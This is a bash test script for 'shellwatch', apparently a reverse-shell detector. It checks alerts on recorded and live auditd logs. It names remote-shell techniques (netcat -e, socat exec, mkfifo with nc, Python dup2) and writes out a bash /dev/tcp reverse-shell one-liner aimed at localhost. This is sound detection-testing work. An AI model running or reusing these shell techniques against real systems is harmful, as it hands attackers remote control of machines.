#!/usr/bin/env bash
# auditd.sh: `shellwatch replay --format auditd` (docs/auditd.md).
#  (a) the committed captures of the real auditd (tests/fixtures/auditd_*.log.gz and the manifest,
#      from tools/gen_audit_fixtures.sh): each technique's shell gives an alert (its pid or
#      parent pid is the shell's or the launcher's, the remote port is the listener's, or for
#      the bind shell the attacker's), no alert outside the techniques, the benign workload
#      none; `score -f auditd` on the same log; bad records, --strict, usage.
#  (b) live, against the real auditd: a private auditd with its own config and log under SW_TMP
#      (a system auditd is used, not touched), the rules of docs/auditd.md limited to this test's
#      audit session, real remote shells of tests/shells/techniques.sh, then exactly our rules
#      removed, the kernel's audit state restored, our auditd stopped, and the log replayed:
#      every technique detected (pid, port). Needs root and a working auditd; fails when
#      SHELLWATCH_REQUIRE_LIVE=1 and it could run but did not, skips loudly otherwise.
. "$(dirname "$0")/../lib.sh"
. "$SW_ROOT/tests/shells/techniques.sh"
. "$SW_ROOT/tests/shells/auditd.sh"
fx=$SW_ROOT/tests/fixtures
det=$SW_SHELLS_DIR/detection_check.py
LIVE=(bash_tcp python_dup2 perl_socket nc_traditional_e python_bind socat_exec mkfifo_nc)
# every alert counts, whatever its severity: print them all when the judge grades them
sev=
"$SW_BIN" replay --help 2>&1 | grep -q -- '--min-severity' && sev="--min-severity low"

# expect_alerts NAME JSON MANIFEST [OTHERS]: every technique of MANIFEST has an alert in JSON,
# and (unless OTHERS is 1: the log may hold other processes) every alert is one of theirs.
expect_alerts() {
	local what=$1 json=$2 name kind root shell port peer listener p n pids=
	while read -r name kind root shell port peer listener; do
		[ "${name:0:1}" = "#" ] && continue
		p=$port
		[ "$name" = python_bind ] && p=${peer##*:}   # accept gives the attacker's end only
		n=$("$SW_PY" "$det" count "$json" --pids "$shell,$root" --port "$p" 2>&1)
		check "$what: $name ($kind): alert for shell $shell or launcher $root, remote port $p" \
			test "${n:-0}" -ge 1 2>/dev/null
		pids+="$shell,$root,"
	done <"$3"
	[ "${4:-0}" = 1 ] && return 0
	n=$("$SW_PY" "$det" count "$json" 2>&1)
	check "$what: no alert outside the techniques" \
		test "$n" = "$("$SW_PY" "$det" count "$json" --pids "$pids" 2>&1)"
}

# ---- (a) the committed captures ------------------------------------------------------------

for opts in "" "--engine pww"; do
	"$SW_BIN" replay -f auditd --json $sev $opts "$fx/auditd_reverse_shells.log.gz" >"$SW_TMP/fx.json" \
		2>"$SW_TMP/fx.err"
	check "fixture${opts:+ $opts}: exit 0" test $? = 0
	check "fixture${opts:+ $opts}: no bad lines, execs judged" \
		grep -q ' 0 bad lines; [1-9][0-9]* execs judged' "$SW_TMP/fx.err"
	check "fixture${opts:+ $opts}: the reader's summary" grep -q ': auditd: [0-9]* records in ' "$SW_TMP/fx.err"
	expect_alerts "fixture${opts:+ $opts}" "$SW_TMP/fx.json" "$fx/auditd_reverse_shells.manifest"
	"$SW_BIN" replay -f auditd $sev $opts "$fx/auditd_benign.log.gz" >"$SW_TMP/bn.out" 2>"$SW_TMP/bn.err"
	check "benign fixture${opts:+ $opts}: no alert" test ! -s "$SW_TMP/bn.out"
	check "benign fixture${opts:+ $opts}: judged, 0 bad lines" \
		grep -q ' 0 bad lines; [1-9][0-9]* execs judged, 0 alerts' "$SW_TMP/bn.err"
done

# the text output names the shell and its remote end
out=$("$SW_BIN" replay --format=auditd $sev "$fx/auditd_reverse_shells.log.gz" 2>/dev/null)
read -r _ _ root shell port _ < <(grep '^bash_tcp ' "$fx/auditd_reverse_shells.manifest")
check "fixture: text alert for bash_tcp" grep -q " ALERT .* pid=$shell ppid=$root .* remote=127.0.0.1:$port " <<<"$out"

# score -f auditd keeps reading the EXECVE records of the same log
zcat "$fx/auditd_reverse_shells.log.gz" | "$SW_BIN" score -f auditd >"$SW_TMP/score" 2>&1
check "score -f auditd on the capture" grep -q "	bash -c 'bash -i >& /dev/tcp/127.0.0.1/$port 0>&1'\$" "$SW_TMP/score"

# bad records: file:line and the reason, counted, the rest read; --strict stops with exit 1
{
	zcat "$fx/auditd_reverse_shells.log.gz" | head -n 3
	echo 'type=SYSCALL msg=audit(1796159768.558:1): arch=c000003e syscall=42 success=yes'
	echo 'type=SOCKADDR msg=audit(1796159768.558:2): saddr=not-hex'
	zcat "$fx/auditd_reverse_shells.log.gz" | tail -n +4
} >"$SW_TMP/bad.log"
"$SW_BIN" replay -f auditd --json $sev "$SW_TMP/bad.log" >"$SW_TMP/bad.json" 2>"$SW_TMP/err"
check "bad record: file:line and reason" grep -q "^$SW_TMP/bad.log:4: SYSCALL record without arch=, syscall= or pid=" "$SW_TMP/err"
check "bad record: second one" grep -q "^$SW_TMP/bad.log:5: SOCKADDR record without a hex saddr=" "$SW_TMP/err"
check "bad record: counted" grep -q ' 2 bad lines;' "$SW_TMP/err"
expect_alerts "bad records" "$SW_TMP/bad.json" "$fx/auditd_reverse_shells.manifest"
"$SW_BIN" replay -f auditd --strict "$SW_TMP/bad.log" >/dev/null 2>&1
check "--strict: exit 1 at a bad record" test $? = 1

# the rules the tests use are the ones docs/auditd.md gives
while read -r line; do
	check "docs/auditd.md has: ${line% -k *}" grep -qF -- "auditctl $line" "$SW_ROOT/docs/auditd.md"
done < <(sw_audit_rule_lines shellwatch x86_64)
check "docs/auditd.md: the aarch64 dups" grep -qF -- '`-S dup,dup3`' "$SW_ROOT/docs/auditd.md"
check "docs/auditd.md: the aarch64 forks" grep -qF -- '`-S clone,clone3`' "$SW_ROOT/docs/auditd.md"

# usage
check "--help names the auditd format" grep -q 'auditd' <<<"$("$SW_BIN" replay --help 2>&1)"
"$SW_BIN" replay -f pcap x >/dev/null 2>"$SW_TMP/err"
check "unknown format: exit 2" test $? = 2
check "unknown format: the formats listed" grep -q 'syscalls, strace or auditd' "$SW_TMP/err"
echo 'type=EXECVE msg=audit(1.0:1): argc=1 a0="id"' | "$SW_BIN" replay -f auditd - >/dev/null 2>"$SW_TMP/err"
check "stdin: an EXECVE without SYSCALL is counted, not an error" grep -q '^<stdin>: 1 lines, 0 events, 0 bad lines' "$SW_TMP/err"

# ---- (b) live, against the real auditd -------------------------------------------------------

# live_skip REASON: the live part cannot run; a failure under SHELLWATCH_REQUIRE_LIVE=1 when it
# should have run (second argument 1), else a loud skip.
live_skip() {
	echo "# !!! LIVE AUDITD TESTS NOT RUN: $1 !!!" >&2
	if [ "${SHELLWATCH_REQUIRE_LIVE:-0}" = 1 ] && [ "${2:-0}" = 1 ]; then
		tap_fail "live auditd" "required (SHELLWATCH_REQUIRE_LIVE=1) but: $1"
	else
		tap_skip "live auditd" "LIVE TESTS NOT RUN: $1"
	fi
	exit 0
}

why=$(sw_audit_missing)
[ "$(id -u)" = 0 ] || live_skip "not root" 1
[ -z "$why" ] || live_skip "$why"
sw_audit_session
[ -n "$SW_AUDIT_SES" ] || echo "# no audit session of our own: the rules see every process" >&2
trap 'sw_audit_end /dev/null >/dev/null 2>&1; sw_cleanup' EXIT
sw_audit_begin "$SW_TMP/audit" ENRICHED
case $? in
0) ;;
2) live_skip "another run kept $SW_AUDIT_LOCKFILE for $SW_AUDIT_LOCK_WAIT s" ;;
*) live_skip "cannot start or use auditd" 1 ;;
esac
enabled0=$SW_AUDIT_ENABLED0 mode=$SW_AUDIT_MODE apid=$SW_AUDIT_PID key=sw-test-$$
sw_audit_rules_add "$key" "$SW_AUDIT_SES" || { sw_audit_end /dev/null; live_skip "auditctl refused the rules" 1; }
check "live: our rules are in ($mode auditd)" grep -q "key=$key" <<<"$(auditctl -l)"

printf '# name kind root_pid shell_pid port peer listener_pid\n' >"$SW_TMP/live.manifest"
for t in "${LIVE[@]}"; do
	miss=$(sw_tech_missing "$t")
	if [ -n "$miss" ]; then
		echo "# !!! $t NOT RUN: $miss is missing !!!" >&2
		tap_skip "live: $t" "$miss is missing"
		continue
	fi
	if sw_tech_run "$t"; then
		sw_tech_describe
		printf '%s %s %s %s %s %s %s\n' "$t" "$SW_T_KIND" "$SW_T_ROOT_PID" "${SW_T_SHELL_PID:-?}" \
			"$SW_T_PORT" "${SW_T_PEER:-?}" "$SW_T_LISTENER_PID" >>"$SW_TMP/live.manifest"
	else
		tap_fail "live: $t ran" "the listener got no shell: $(head -c 300 "$SW_T_DIR/listener.err")"
	fi
done

sw_audit_end "$SW_TMP/live.log"
check "live: the log is complete (our rules' removal logged)" test $? = 0
check "live: exactly our rules removed" test "$(auditctl -l | grep -c "key=$key")" = 0
check "live: audit enabled flag restored ($enabled0)" test "$(_sw_audit_status enabled)" = "$enabled0"
[ "$mode" = private ] && check "live: our auditd stopped" pid_gone "$apid"

"$SW_BIN" replay -f auditd --json $sev "$SW_TMP/live.log" >"$SW_TMP/live.json" 2>"$SW_TMP/live.err"
check "live: replay exit 0, no bad lines" grep -q ' 0 bad lines; [1-9][0-9]* execs judged' "$SW_TMP/live.err"
sed 's/^/# /' "$SW_TMP/live.err" | cut -c1-300
others=0
[ -z "$SW_AUDIT_SES" ] && others=1   # no session of our own: every process was audited
expect_alerts "live" "$SW_TMP/live.json" "$SW_TMP/live.manifest" "$others"
